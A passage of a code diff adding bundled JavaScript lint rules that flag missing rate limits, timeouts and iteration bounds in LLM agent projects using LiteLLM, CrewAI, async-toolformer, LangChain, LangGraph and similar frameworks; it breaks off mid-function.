+    fix: "Give each model_list entry litellm_params.rpm / tpm, or set a proxy-wide limit (litellm_settings.max_parallel_requests, general_settings.global_max_parallel_requests, router_settings); give CrewAI agents or their Crew max_rpm.",
+    messages: {
+      entry: "LiteLLM model_list entry `{{model}}` has neither `litellm_params.rpm` nor `litellm_params.tpm`, and the proxy sets no global limit: add `rpm:` / `tpm:` under its litellm_params, or `max_parallel_requests` under litellm_settings (or `global_max_parallel_requests` under general_settings)",
+      crewai: "CrewAI Agent{{role}} has no `max_rpm=` and no Crew in the project sets one: add `max_rpm=` to the Agent or its Crew"
+    },
+    defaultOptions: { crewaiMaxRpm: true },
+    optionsSchema: {
+      properties: {
+        crewaiMaxRpm: { type: "boolean", description: "Report CrewAI Agent(...) calls without max_rpm (as notes)." }
+      }
+    }
+  },
+  appliesTo: (file) => (file.language === "yaml" || file.language === "json") && file.text.includes("model_list") && file.text.includes("litellm_params") || file.language === "python" && file.text.includes("crewai") && file.text.includes("Agent("),
+  async check(ctx) {
+    if (ctx.file.language === "python") {
+      if (ctx.options.crewaiMaxRpm !== false) await checkCrewAi(ctx);
+      return;
+    }
+    checkLiteLlm(ctx);
+  }
+};
+function hasLimit(map, key) {
+  if (!(0, import_yaml2.isMap)(map)) return false;
+  return map.items.some((p) => (0, import_yaml2.isScalar)(p.key) && key.test(String(p.key.value)) && !((0, import_yaml2.isScalar)(p.value) && (p.value.value === null || p.value.value === "")));
+}
+function checkLiteLlm(ctx) {
+  const doc = (0, import_yaml2.parseDocument)(ctx.file.text, { keepSourceTokens: false, uniqueKeys: false });
+  if (doc.errors.length > 0 || !(0, import_yaml2.isMap)(doc.contents)) return;
+  const root = doc.contents;
+  const list2 = root.get("model_list", true);
+  if (!(0, import_yaml2.isSeq)(list2)) return;
+  const entries = list2.items.filter((e) => (0, import_yaml2.isMap)(e) && e.has("litellm_params"));
+  if (entries.length === 0) return;
+  if (GLOBAL_SECTIONS.some((s) => hasLimit(root.get(s, true), GLOBAL_LIMIT_KEY))) return;
+  for (const e of entries) {
+    if (hasLimit(e, /^(rpm|tpm)$/) || hasLimit(e.get("litellm_params", true), ENTRY_LIMIT_KEY)) continue;
+    const nameNode = e.items.find((p) => (0, import_yaml2.isScalar)(p.key) && p.key.value === "model_name");
+    const at2 = nameNode?.key ?? e;
+    const end = nameNode?.value?.range?.[1] ?? at2.range?.[1] ?? 0;
+    const start2 = at2.range?.[0] ?? 0;
+    const model = (0, import_yaml2.isScalar)(nameNode?.value) ? String(nameNode.value.value) : "(unnamed)";
+    ctx.report({ messageId: "entry", data: { model: shorten(model) }, range: ctx.file.rangeOf(start2, end) });
+  }
+}
+async function checkCrewAi(ctx) {
+  if (!importsAny(ctx.file.text, ["crewai"])) return;
+  const parsed = await ctx.tree();
+  if (!parsed) return;
+  const local = crewMaxRpm(parsed.root);
+  if (local === null ? await crewSetsMaxRpm(ctx) : local) return;
+  const agentNames = importedAs(ctx.file.text, "crewai", ["Agent"]);
+  for (const n of descendants(parsed.root)) {
+    if (n.type !== "call" || !agentNames.has(calleeText(n))) continue;
+    const kw = pyKwargs(n);
+    if (pyHasDictSplat(n) || kw.has("config")) continue;
+    const rpm = kw.get("max_rpm");
+    if (rpm && !isNoneLike(rpm.value)) continue;
+    const role = kw.get("role")?.value;
+    ctx.report({
+      messageId: "crewai",
+      data: { role: role?.type === "string" ? ` ${shorten(role.text, 30)}` : "" },
+      range: ctx.file.rangeOf(n.startIndex, n.endIndex),
+      severity: "note"
+    });
+  }
+}
+function crewSetsMaxRpm(ctx) {
+  return ctx.project.memo(`${ID2}:crew-max-rpm`, async () => {
+    for (const p of await ctx.project.allPaths()) {
+      if (!p.endsWith(".py")) continue;
+      const f = await ctx.project.getFile(p);
+      if (!f || !f.text.includes("Crew(") || !f.text.includes("max_rpm")) continue;
+      const parsed = await parseCode("python", f.text);
+      if (!parsed) continue;
+      try {
+        if (crewMaxRpm(parsed.root)) return true;
+      } finally {
+        parsed.tree.delete();
+      }
+    }
+    return false;
+  });
+}
+function crewMaxRpm(root) {
+  let seen = false;
+  for (const n of descendants(root)) {
+    if (n.type !== "call" || !/^(crewai\.)?Crew$/.test(calleeText(n))) continue;
+    seen = true;
+    const v = pyKwargs(n).get("max_rpm");
+    if (!v || isNoneLike(v.value)) return false;
+  }
+  return seen ? true : null;
+}
+
+// src/rules/rate-limit/orchestrator-without-limits.ts
+var ID3 = "rate-limit/orchestrator-without-limits";
+var CONSTRUCTOR_PARAMS = ["llm_client", "tools", "config", "llm_integration"];
+var ORCHESTRATOR_CONFIG_FIELDS = [
+  "max_parallel_tools",
+  "max_parallel_per_type",
+  "tool_timeout_ms",
+  "llm_timeout_ms",
+  "total_timeout_ms",
+  "retry_attempts",
+  "retry_backoff",
+  "rate_limit_config",
+  "cancellation_strategy",
+  "speculation_config",
+  "observability_config",
+  "memory_config",
+  "event_loop_config",
+  "enable_result_streaming",
+  "result_aggregation_strategy",
+  "custom_settings"
+];
+function suggestion(kw) {
+  if (/^(max_parallel|max_concurren\w*|concurrency|max_workers|parallelism)$/.test(kw)) return "use `max_parallel_tools=`";
+  if (/speculat/.test(kw)) return "use `speculation_config=SpeculationConfig(enabled=..., max_speculative_calls=...)`";
+  if (/^(timeout|timeout_ms|timeout_s|tool_timeout|tool_timeout_s)$/.test(kw)) return "use `tool_timeout_ms=`";
+  if (/^(total_timeout|total_timeout_s|deadline\w*)$/.test(kw)) return "use `total_timeout_ms=`";
+  if (/^(llm_timeout|llm_timeout_s)$/.test(kw)) return "use `llm_timeout_ms=`";
+  if (/rate|limit|backpressure|global_max|service_limits|redis/.test(kw)) return "pass `rate_limit_config=RateLimitConfig(...)`";
+  if (/trac|metric|observab|log/.test(kw)) return "pass `observability_config=ObservabilityConfig(...)`";
+  if (/event_loop|max_tasks|executor_workers|process_pool|uvloop/.test(kw)) return "pass `event_loop_config=EventLoopConfig(...)`";
+  if (/cancel|branch/.test(kw)) return "pass `cancellation_strategy=CancellationStrategy(...)`";
+  if (/memory|gc_|compress/.test(kw)) return "pass `memory_config=MemoryConfig(...)`";
+  if (/retr/.test(kw)) return "use `retry_attempts=`";
+  return "remove it or set the matching OrchestratorConfig field";
+}
+var LIMIT_LIKE = /max|limit|rate|timeout|concurren|parallel|backpressure|speculat|budget|deadline|throttl|quota|retr/;
+var orchestratorWithoutLimits = {
+  meta: {
+    id: ID3,
+    family: "rate-limit",
+    severity: "warning",
+    description: "async-toolformer-orchestrator set up without rate limits: an older-API AsyncOrchestrator(...) with no explicit RateLimitConfig, keyword arguments the constructor silently drops, or newer-API @registry.tool(...) tools with neither calls_per_min nor timeout_s while run() gets no default_timeout_s.",
+    fix: "Pass rate_limit_config=RateLimitConfig(...) (older API) or give each @registry.tool(...) calls_per_min= / timeout_s= (newer API), and spell keyword arguments as OrchestratorConfig fields.",
+    messages: {
+      noRateLimit: "`{{call}}` gets no explicit RateLimitConfig, so it runs on the library default: pass `rate_limit_config=RateLimitConfig(global_max=..., service_limits=...)`{{where}}",
+      droppedKwarg: "`{{name}}=` is silently dropped by AsyncOrchestrator (OrchestratorConfig has no `{{name}}` field, so the limit it suggests does not exist): {{suggestion}}",
+      toolNoLimits: "tool `{{tool}}` is registered with neither `calls_per_min=` nor `timeout_s=`, and no AsyncOrchestrator.run() passes `default_timeout_s=`: add `calls_per_min=` and `timeout_s=` to `{{decorator}}`"
+    },
+    defaultOptions: { classNames: ["AsyncOrchestrator"], checkDroppedKwargs: true },
+    optionsSchema: {
+      properties: {
+        classNames: { type: "array", items: { type: "string" }, description: "Class names treated as the async-toolformer orchestrator." },
+        checkDroppedKwargs: { type: "boolean", description: "Report keyword arguments the older-API constructor silently drops." }
+      }
+    }
+  },
+  appliesTo: (file) => file.language === "python" && /AsyncOrchestrator|ToolRegistry|ToolSpec|async_toolformer/.test(file.text),
+  async check(ctx) {
+    const parsed = await ctx.tree();
+    if (!parsed) return;
+    const opts = ctx.options;
+    const classes = new Set(opts.classNames ?? ["AsyncOrchestrator"]);
+    const text = ctx.file.text;
+    const fromLibrary = importsAny(text, ["async_toolformer"]);
+    const registries = registryNames(parsed.root);
+    const toolCandidates = [];
+    for (const n of descendants(parsed.root)) {
+      if (n.type === "call") {
+        const callee = calleeText(n);
+        const cls = callee.slice(callee.lastIndexOf(".") + 1);
+        if (classes.has(cls) && !isNewerApiCall(n, registries)) checkOlder(ctx, n, callee, opts);
+        if (cls === "ToolSpec" && (fromLibrary || registries.size > 0)) {
+          const kw = pyKwargs(n);
+          if (!pyHasDictSplat(n) && !hasValue(kw, "calls_per_min") && !hasValue(kw, "timeout_s")) {
+            const name2 = kw.get("name")?.value.text ?? pyPositional(n)[0]?.text ?? "tool";
+            toolCandidates.push({ node: n, tool: shorten(name2.replace(/^['"]|['"]$/g, ""), 30), decorator: "ToolSpec(...)" });
+          }
+        }
+      } else if (n.type === "decorator") {
+        const call = unwrap(n.namedChildren[0]);
+        const deco = call.type === "call" ? calleeText(call) : call.text;
+        const m = /^([\w.]+)\.tool$/.exec(deco);
+        if (!m || !(registries.has(m[1]) || fromLibrary && /registry$/i.test(m[1]))) continue;
+        const kw = call.type === "call" ? pyKwargs(call) : /* @__PURE__ */ new Map();
+        if (call.type === "call" && pyHasDictSplat(call)) continue;
+        if (hasValue(kw, "calls_per_min") || hasValue(kw, "timeout_s")) continue;
+        const def = n.parent?.childForFieldName("definition");
+        const name2 = kw.get("name")?.value.text.replace(/^['"]|['"]$/g, "") ?? def?.childForFieldName("name")?.text ?? "tool";
+        toolCandidates.push({ node: n, tool: name2, decorator: `@${deco}(...)` });
+      }
+    }
+    if (toolCandidates.length === 0) return;
+    const local = runCalls(parsed.root);
+    const runs = local.length ? local : await projectRuns(ctx);
+    const covered = runs.length > 0 && runs.every((r2) => r2);
+    if (covered) return;
+    for (const t of toolCandidates) {
+      ctx.report({ messageId: "toolNoLimits", data: { tool: t.tool, decorator: t.decorator }, range: ctx.file.rangeOf(t.node.startIndex, t.node.endIndex) });
+    }
+  }
+};
+function hasValue(kw, key) {
+  const v = kw.get(key);
+  return !!v && !isNoneLike(v.value);
+}
+function registryNames(root) {
+  const out2 = /* @__PURE__ */ new Set();
+  for (const n of descendants(root)) {
+    if (n.type !== "assignment") continue;
+    const right = n.childForFieldName("right");
+    const left = n.childForFieldName("left");
+    if (left && right?.type === "call" && /(^|\.)ToolRegistry$/.test(calleeText(right))) out2.add(left.text);
+  }
+  return out2;
+}
+function isNewerApiCall(call, registries) {
+  const pos = pyPositional(call);
+  const kw = pyKwargs(call);
+  if (pos.length !== 1 || kw.size > 0) return false;
+  const a = unwrap(pos[0]);
+  if (a.type === "call" && /(^|\.)ToolRegistry$/.test(calleeText(a))) return true;
+  if (registries.has(a.text)) return true;
+  if (a.type === "identifier") {
+    const v = resolveName(a.text, call, "python");
+    if (v?.type === "call" && /(^|\.)ToolRegistry$/.test(calleeText(v))) return true;
+    return /registry$/i.test(a.text);
+  }
+  return /(^|\.)registry$/i.test(a.text);
+}
+function checkOlder(ctx, call, callee, opts) {
+  const kw = pyKwargs(call);
+  if (opts.checkDroppedKwargs !== false) {
+    for (const [name2, { node }] of kw) {
+      if (CONSTRUCTOR_PARAMS.includes(name2) || ORCHESTRATOR_CONFIG_FIELDS.includes(name2)) continue;
+      ctx.report({
+        messageId: "droppedKwarg",
+        data: { name: name2, suggestion: suggestion(name2) },
+        range: ctx.file.rangeOf(node.startIndex, node.endIndex),
+        ...LIMIT_LIKE.test(name2) ? {} : { severity: "note" }
+      });
+    }
+  }
+  if (kw.has("rate_limit_config") || pyHasDictSplat(call)) return;
+  const configArg = kw.get("config")?.value ?? pyPositional(call)[2] ?? null;
+  let related2 = null;
+  if (configArg) {
+    const v = unwrap(configArg);
+    let value = v;
+    if (v.type === "identifier") {
+      value = resolveName(v.text, call, "python");
+      if (!value) return;
+      if (attributeAssigned(call, v.text, "rate_limit_config")) return;
+    }
+    if (!value || value.type !== "call" || !/(^|\.)OrchestratorConfig$/.test(calleeText(value))) return;
+    const ckw = pyKwargs(value);
+    if (ckw.has("rate_limit_config") || pyHasDictSplat(value)) return;
+    related2 = { node: value, message: "OrchestratorConfig without rate_limit_config" };
+  }
+  const head = callee.slice(callee.lastIndexOf(".") + 1);
+  ctx.report({
+    messageId: "noRateLimit",
+    data: { call: `${head}(...)`, where: related2 ? " (here or in its OrchestratorConfig)" : "" },
+    range: ctx.file.rangeOf(call.startIndex, call.endIndex),
+    related: related2 ? [{ path: ctx.file.path, range: ctx.file.rangeOf(related2.node.startIndex, related2.node.endIndex), message: related2.message }] : void 0
+  });
+}
+function attributeAssigned(at2, name2, attr) {
+  const scope = enclosingScope(at2, "python");
+  let root = at2;
+  while (root.parent) root = root.parent;
+  for (const s of [scope, root]) {
+    for (const d of descendants(s)) {
+      if (d.type === "assignment" && d.childForFieldName("left")?.text.replace(/\s+/g, "") === `${name2}.${attr}`) return true;
+    }
+  }
+  return false;
+}
+function runCalls(root) {
+  const orchs = /* @__PURE__ */ new Set();
+  for (const n of descendants(root)) {
+    if (n.type !== "assignment") continue;
+    const right = n.childForFieldName("right");
+    if (right?.type === "call" && /(^|\.)AsyncOrchestrator$/.test(calleeText(right))) orchs.add(n.childForFieldName("left").text);
+  }
+  const out2 = [];
+  for (const n of descendants(root)) {
+    if (n.type !== "call") continue;
+    const callee = calleeText(n);
+    const m = /^(.*)\.(run|stream)$/.exec(callee);
+    if (!m || !(orchs.has(m[1]) || /AsyncOrchestrator\(/.test(m[1]))) continue;
+    out2.push(hasValue(pyKwargs(n), "default_timeout_s"));
+  }
+  return out2;
+}
+async function projectRuns(ctx) {
+  return ctx.project.memo(`${ID3}:runs`, async () => {
+    const out2 = [];
+    for (const p of await ctx.project.allPaths()) {
+      if (!p.endsWith(".py")) continue;
+      const f = await ctx.project.getFile(p);
+      if (!f || !/AsyncOrchestrator/.test(f.text) || !/\.(run|stream)\(/.test(f.text)) continue;
+      const parsed = await parseCode("python", f.text);
+      if (!parsed) continue;
+      try {
+        out2.push(...runCalls(parsed.root));
+      } finally {
+        parsed.tree.delete();
+      }
+    }
+    return out2;
+  });
+}
+
+// src/ratelimit/calls.ts
+var AGENTISH = /(^|[._])(runner|agents?|crew|chain|executor|orchestrator|graph|app|workflow|tools?|llm|model|chat_?model|chat|client|openai|anthropic|claude|gpt|gemini|ollama|groq|mistral|cohere|bedrock|assistant|session|mcp)\w*$/i;
+var TOOLISH = /(^|[._])(tools?|\w*_tool|\w*Tool|toolset|tool_map|toolMap|mcp|session|orchestrator)\w*$/;
+var LLM_HOSTS = /api\.openai\.com|api\.anthropic\.com|generativelanguage\.googleapis\.com|openrouter\.ai|api\.groq\.com|api\.mistral\.ai|api\.together\.xyz|api\.deepseek\.com|api\.x\.ai|api\.perplexity\.ai|api\.cohere\.(ai|com)|api\.fireworks\.ai|openai\.azure\.com|\/v1\/chat\/completions|\/v1\/messages\b|\/v1\/responses\b/;
+function receiverOf(callee) {
+  const i2 = callee.lastIndexOf(".");
+  return i2 >= 0 ? callee.slice(0, i2).replace(/\(.*\)$/, "").replace(/\[.*\]$/, "") : "";
+}
+function classifyCall(call, lang, fileText, extra = []) {
+  const callee = calleeText(call);
+  if (!callee) return null;
+  const name2 = callee.slice(callee.lastIndexOf(".") + 1);
+  const recv = receiverOf(callee);
+  if (extra.some((re) => re.test(callee))) return { callee, kind: "model" };
+  if (/\.(chat\.)?completions\.(create|parse|stream)$|\.messages\.(create|stream|parse)$|\.responses\.(create|parse|stream)$|ChatCompletion\.a?create$|Completion\.a?create$/.test(callee)) return { callee, kind: "model" };
+  if (/\.(a?generate_content|generateContent|generateContentStream|send_message|sendMessage)$/.test(callee) && !/^(self|this)$/.test(recv)) return { callee, kind: "model" };
+  if (lang === "python") {
+    if (/(^|\.)(acompletion|atext_completion)$/.test(callee) || /^litellm\.(completion|text_completion|embedding|aembedding)$/.test(callee)) return { callee, kind: "model" };
+    if (callee === "completion" && /\blitellm\b/.test(fileText)) return { callee, kind: "model" };
+    if (/^(ollama\.)?(a?chat|a?generate)$/.test(callee) && /\bollama\b/.test(fileText) && callee.includes("ollama")) return { callee, kind: "model" };
+    if (name2 === "ainvoke" || name2 === "astream" || name2 === "agenerate" || name2 === "apredict") return { callee, kind: /tool/i.test(recv) ? "tool" : "model" };
+    if ((name2 === "invoke" || name2 === "stream" || name2 === "generate" || name2 === "predict" || name2 === "chat" || name2 === "achat") && AGENTISH.test(recv)) return { callee, kind: /tool/i.test(recv) ? "tool" : "model" };
+    if (name2 === "arun" || name2 === "acall" && AGENTISH.test(recv)) return { callee, kind: /tool/i.test(recv) ? "tool" : "agent" };
+    if ((name2 === "run" || name2 === "run_sync" || name2 === "run_streamed" || name2 === "kickoff" || name2 === "kickoff_async" || name2 === "execute" || name2 === "aexecute") && AGENTISH.test(recv) && !/^(self|cls)$/.test(recv))
+      return { callee, kind: TOOLISH.test(recv) ? "tool" : "agent" };
+    if (name2 === "call_tool" || name2 === "run_tool" || name2 === "execute_tool" || name2 === "invoke_tool" || name2 === "arun_tool") return { callee, kind: "tool" };
+    if (/^(session|client|http|httpx|aiohttp|requests|self\.\w*(session|client|http)\w*)\.(post|request)$|^(requests|httpx)\.post$/.test(callee)) {
+      if (argList(call).some((a) => LLM_HOSTS.test(a.text)) || constHostArg(call, lang)) return { callee, kind: "model" };
+    }
+  } else {
+    if (/^(ai\.)?(generateText|streamText|generateObject|streamObject|embed|embedMany)$/.test(callee)) return { callee, kind: "model" };
+    if ((name2 === "invoke" || name2 === "stream" || name2 === "batch" || name2 === "call") && AGENTISH.test(recv) && !/^this$/.test(recv)) return { callee, kind: /tool/i.test(recv) ? "tool" : "model" };
+    if ((name2 === "generate" || name2 === "chat" || name2 === "complete") && AGENTISH.test(recv) && !/^this$/.test(recv)) return { callee, kind: "model" };
+    if (callee === "run" && /@openai\/agents/.test(fileText)) return { callee, kind: "agent" };
+    if ((name2 === "run" || name2 === "execute" || name2 === "kickoff") && AGENTISH.test(recv) && !/^this$/.test(recv)) return { callee, kind: TOOLISH.test(recv) ? "tool" : "agent" };
+    if (name2 === "callTool" || name2 === "executeTool" || name2 === "runTool" || name2 === "invokeTool") return { callee, kind: "tool" };
+    if (callee === "fetch" || /^(axios|ky|got)(\.post|\.request)?$|\.(post|request)$/.test(callee)) {
+      if (argList(call).some((a) => LLM_HOSTS.test(a.text)) || constHostArg(call, lang)) return { callee, kind: "model" };
+    }
+  }
+  return null;
+}
+function constHostArg(call, lang) {
+  const first = argList(call)[0];
+  if (!first || first.type !== "identifier") return false;
+  const v = resolveName(first.text, call, lang);
+  return !!v && LLM_HOSTS.test(v.text);
+}
+var TOOL_DECORATOR = /^@\s*(tool|function_tool|Tool|\w+\.tool|\w+\.tool_plain|tool\(|function_tool\(|Tool\(|\w+\.tool\()/;
+function isDecoratedTool(fn) {
+  const parent = fn.parent;
+  if (parent?.type !== "decorated_definition") return false;
+  return parent.namedChildren.some((d) => d?.type === "decorator" && TOOL_DECORATOR.test(d.text.trim()));
+}
+function localTarget(call, lang) {
+  const callee = calleeText(call);
+  const m = /^(?:(?:self|this|cls)\.)?([A-Za-z_$][\w$]*)$/.exec(callee);
+  if (!m) return null;
+  const fn = findLocalFunction(call, m[1], lang);
+  return fn;
+}
+function reachesModelOrTool(root, lang, fileText, depth = 3, extra = [], seen = /* @__PURE__ */ new Set()) {
+  for (const c of callsIn(root, lang, false)) {
+    const k = classifyCall(c, lang, fileText, extra);
+    if (k) return { call: k, node: c };
+    if (depth <= 0) continue;
+    const target = localTarget(c, lang);
+    if (!target || seen.has(target.startIndex)) continue;
+    seen.add(target.startIndex);
+    if (lang === "python" && isDecoratedTool(target)) return { call: { callee: calleeText(c), kind: "tool" }, node: c };
+    const body2 = functionBody(target);
+    if (!body2) continue;
+    const r2 = reachesModelOrTool(body2, lang, fileText, depth - 1, extra, seen);
+    if (r2) return r2;
+  }
+  return null;
+}
+var LIMITER_NAME = /(sem(aphore)?s?|limit(er)?s?|throttl\w*|bucket|capacity|bottleneck|p_?queue|queue|mutex|lock|slots?|pool|bound(ed)?|concurren\w*|rate_?limit\w*|rateLimit\w*|permits?|tokens?_?bucket)\b/i;
+function takesLimiter(root, lang, depth = 2, seen = /* @__PURE__ */ new Set()) {
+  const nodes = [root, ...descendants(root)];
+  for (const n of nodes) {
+    if (lang === "python" && n.type === "with_statement") {
+      for (const item of n.descendantsOfType("with_item")) {
+        const v = item?.childForFieldName("value");
+        const text = v ? v.type === "as_pattern" ? v.namedChildren[0]?.text ?? "" : v.text : "";
+        if (LIMITER_NAME.test(lastSegment(text)) || /Semaphore\(|CapacityLimiter\(|AsyncLimiter\(/.test(text)) return true;
+      }
+    }
+    if (n.type === "call" || n.type === "call_expression") {
+      const callee = calleeText(n);
+      const name2 = callee.slice(callee.lastIndexOf(".") + 1);
+      const recv = receiverOf(callee);
+      if ((name2 === "acquire" || name2 === "wait" || name2 === "consume" || name2 === "take" || name2 === "schedule" || name2 === "add" || name2 === "runExclusive" || name2 === "wrap" || name2 === "submit" || name2 === "removeTokens") && LIMITER_NAME.test(lastSegment(recv))) return true;
+      if (lang === "js" && LIMITER_NAME.test(callee) && !callee.includes(".")) return true;
+      if (lang === "js" && /^(pLimit|pThrottle|pMap|throttle)$/.test(callee)) return true;
+      if (depth > 0) {
+        const target = localTarget(n, lang);
+        if (target && !seen.has(target.startIndex)) {
+          seen.add(target.startIndex);
+          const body2 = functionBody(target);
+          if (body2 && takesLimiter(body2, lang, depth - 1, seen)) return true;
+        }
+      }
+    }
+  }
+  return false;
+}
+function lastSegment(text) {
+  const t = text.replace(/\(.*$/s, "").replace(/\s+/g, "");
+  return t.slice(t.lastIndexOf(".") + 1);
+}
+function unwrapTaskWrapper(n, lang) {
+  let cur = unwrap(n);
+  for (let i2 = 0; i2 < 4; i2++) {
+    if (cur.type !== "call") return cur;
+    const callee = calleeText(cur);
+    if (/(^|\.)(create_task|ensure_future|wait_for|shield|run_coroutine_threadsafe|to_thread)$/.test(callee) && lang === "python") {
+      const first = argList(cur)[0];
+      if (!first) return cur;
+      cur = unwrap(first);
+      continue;
+    }
+    return cur;
+  }
+  return cur;
+}
+
+// src/rules/rate-limit/unbounded-agent-loop.ts
+var ID4 = "rate-limit/unbounded-agent-loop";
+var PY_BOUNDS = [
+  { callee: /(^|\.)(AgentExecutor|AgentExecutor\.from_agent_and_tools|initialize_agent)$/, kwarg: "max_iterations", framework: "LangChain AgentExecutor" },
+  { callee: /(^|\.)Runner\.(run|run_sync|run_streamed)$/, kwarg: "max_turns", framework: "OpenAI Agents Runner" },
+  { callee: /(^|\.)(CodeAgent|ToolCallingAgent|MultiStepAgent)$/, kwarg: "max_steps", framework: "smolagents agent" },
+  { callee: /\.run$/, kwarg: "max_steps", framework: "smolagents agent.run", needsImport: ["smolagents"] }
+];
+var JS_STEP_KEYS = { maxSteps: "maxSteps", maxTurns: "maxTurns", maxIterations: "maxIterations" };
+var AI_SDK_LOOP = /^(ai\.)?(generateText|streamText|Experimental_Agent|ToolLoopAgent)$/;
+function reportValue(c, node, messageId, data) {
+  c.ctx.report({ messageId, data, range: c.ctx.file.rangeOf(node.startIndex, node.endIndex) });
+}
+function describe2(v) {
+  return v === Infinity ? "unbounded" : String(v);
+}
+function checkBound(c, valueNode, at2, param, framework, max, noneRemoves, execTime) {
+  if (isNoneLike(valueNode)) {
+    if (!noneRemoves || execTime) return;
+    reportValue(c, at2, "removed", { param, framework, max });
+    return;
+  }
+  const v = numericValue(valueNode);
+  if (v === Infinity) {
+    reportValue(c, at2, "removed", { param, framework, max });
+    return;
+  }
+  if (v === null || v <= max) return;
+  reportValue(c, at2, "raised", { param, framework, value: describe2(v), max });
+}
+var unboundedAgentLoop = {
+  meta: {
+    id: ID4,
+    family: "rate-limit",
+    severity: "warning",
+    description: "Agent loops whose iteration bound is removed or raised past a configurable maximum (LangChain max_iterations, LangGraph recursion_limit, OpenAI Agents max_turns, CrewAI max_iter, smolagents max_steps, Vercel AI SDK stopWhen/maxSteps) and hand-written `while True` loops that call a model and run tools with no counter or deadline.",
+    fix: "Keep a finite bound at or below the configured maximum (or add a wall-clock limit such as max_execution_time), and give hand-written loops a step counter or deadline.",
+    messages: {
+      removed: "{{framework}}: `{{param}}` removes the iteration bound: set `{{param}}` to a number at most {{max}}",
+      removedNoTime: "{{framework}}: `{{param}}=None` removes the iteration bound and no `max_execution_time` is set: set `{{param}}` (at most {{max}}) or `max_execution_time`",
+      raised: "{{framework}}: `{{param}}` is {{value}}, above the maximum of {{max}}: lower `{{param}}`",
+      stopWhenNoCount: "{{framework}}: `stopWhen` has no step-count condition, so the tool loop runs until the model stops: add `stepCountIs(n)` (n at most {{max}}) to `stopWhen`",
+      whileTrue: "Hand-written agent loop `{{loop}}` calls a model ({{model}}) and runs tools with no step counter or deadline: add a maximum step count (e.g. `for step in range(MAX_STEPS)`) or a deadline check"
+    },
+    defaultOptions: { maxIterations: 50, maxRecursionLimit: 100, checkHandWrittenLoops: true },
+    optionsSchema: {
+      properties: {
+        maxIterations: { type: "integer", minimum: 1, description: "Highest accepted max_iterations / max_iter / max_steps / max_turns / maxSteps / maxTurns / stepCountIs(n)." },
+        maxRecursionLimit: { type: "integer", minimum: 1, description: "Highest accepted LangGraph recursion_limit / recursionLimit (super-steps; LangGraph counts about two per tool round)." },
+        checkHandWrittenLoops: { type: "boolean", description: "Also flag `while True:` / `while (true)` / `for (;;)` loops that call a model and run tools with no counter or deadline." }
+      }
+    }
+  },
+  appliesTo: (file) => file.isCode && /max_iterations|recursion_limit|recursionLimit|max_turns|maxTurns|max_iter|max_steps|maxSteps|maxIterations|stopWhen|while\s*\(?\s*(True|true|1)\b|for\s*\(\s*;\s*;\s*\)/.test(file.text),
+  async check(ctx) {
+    const parsed = await ctx.tree();
+    if (!parsed) return;
+    const lang = langOf(parsed.language);
+    const c = {
+      ctx,
+      lang,
+      maxIterations: numberOption(ctx.options, "maxIterations", 50),
+      maxRecursionLimit: numberOption(ctx.options, "maxRecursionLimit", 100),
+      crewAgents: importedAs(ctx.file.text, "crewai", ["Agent"]),
+      aiAgents: importedAs(ctx.file.text, "ai", ["Agent", "Experimental_Agent", "ToolLoopAgent"])
+    };
+    const loops = ctx.options.checkHandWrittenLoops !== false;
+    const text = ctx.file.text;
+    for (const n of descendants(parsed.root)) {
+      if (lang === "python") {
+        if (n.type === "call") pyCall(c, n, text);
+        else if (n.type === "pair") {
+          const k = n.childForFieldName("key");
+          const v = n.childForFieldName("value");
+          if (k?.type === "string" && stripQuotes(k.text) === "recursion_limit" && v) checkBound(c, v, n, "recursion_limit", "LangGraph", c.maxRecursionLimit, true);
+        } else if (n.type === "assignment") {
+          const left = n.childForFieldName("left");
+          const right = n.childForFieldName("right");
+          if (left?.type === "subscript" && /\[\s*['"]recursion_limit['"]\s*\]$/.test(left.text) && right) checkBound(c, right, n, "recursion_limit", "LangGraph", c.maxRecursionLimit, true);
+        } else if (loops && n.type === "while_statement") {
+          const cond = n.childForFieldName("condition");
+          if (cond && /^(True|1)$/.test(unwrap(cond).text)) whileTrue(c, n, n.childForFieldName("body"), text);
+        }
+      } else {
+        if (n.type === "pair") jsPair(c, n);
+        else if (n.type === "call_expression" || n.type === "new_expression") jsCall(c, n);
+        else if (loops && n.type === "while_statement") {
+          const cond = n.childForFieldName("condition");
+          if (cond && /^\(?\s*(true|1)\s*\)?$/.test(cond.text)) whileTrue(c, n, n.childForFieldName("body"), text);
+        } else if (loops && n.type === "for_statement" && /^for\s*\(\s*[^;)]*;\s*;/.test(n.text)) {
+          whileTrue(c, n, n.childForFieldName("body"), text);
+        }
+      }
+    }
+  }
+};
+function pyCall(c, call, text) {
+  const callee = calleeText(call);
+  const kw = pyKwargs(call);
+  if (c.crewAgents.has(callee)) {
+    const arg2 = kw.get("max_iter");
+    if (arg2) checkBound(c, arg2.value, arg2.node, "max_iter", "CrewAI Agent", c.maxIterations, true);
+  }
+  const rl = kw.get("recursion_limit");
+  if (rl) checkBound(c, rl.value, rl.node, "recursion_limit", "LangGraph", c.maxRecursionLimit, true);
+  for (const b of PY_BOUNDS) {
+    if (!b.callee.test(callee)) continue;
+    if (b.needsImport && !importsAny(text, b.needsImport)) continue;
+    const arg2 = kw.get(b.kwarg);
+    if (!arg2) continue;
+    if (b.kwarg === "max_iterations") {
+      const exec = kw.get("max_execution_time");
+      const hasTime = !!exec && !isNoneLike(exec.value);
+      if (isNoneLike(arg2.value)) {
+        if (!hasTime) reportValue(c, arg2.node, "removedNoTime", { param: b.kwarg, framework: b.framework, max: c.maxIterations });
+        continue;
+      }
+    }
+    checkBound(c, arg2.value, arg2.node, b.kwarg, b.framework, c.maxIterations, true);
+  }
+}
+function jsPair(c, pair) {
+  const k = pair.childForFieldName("key");
+  const v = pair.childForFieldName("value");
+  if (!k || !v) return;
+  const key = stripQuotes(k.text);
+  if (key === "recursionLimit") checkBound(c, v, pair, "recursionLimit", "LangGraph", c.maxRecursionLimit, true);
+  else if (key in JS_STEP_KEYS) {
+    const fw = key === "maxTurns" ? "OpenAI Agents" : key === "maxIterations" ? "LangChain.js AgentExecutor" : "AI SDK";
+    checkBound(c, v, pair, JS_STEP_KEYS[key], fw, c.maxIterations, key === "maxIterations");
+  }
+}
+function jsCall(c, call) {
+  const callee = calleeText(call);
+  if (!AI_SDK_LOOP.test(callee) && !c.aiAgents.has(callee)) return;
+  const first = argList(call)[0];
+  const props = jsObjectProps(first ? unwrap(first) : null);
+  const stop2 = props.get("stopWhen");
+  if (!stop2) return;
+  const conds = stop2.value.type === "array" ? stop2.value.namedChildren.filter((x) => !!x) : [stop2.value];
+  let counted = false;
+  let unknown = false;
+  for (const cond of conds) {
+    const u = unwrap(cond);
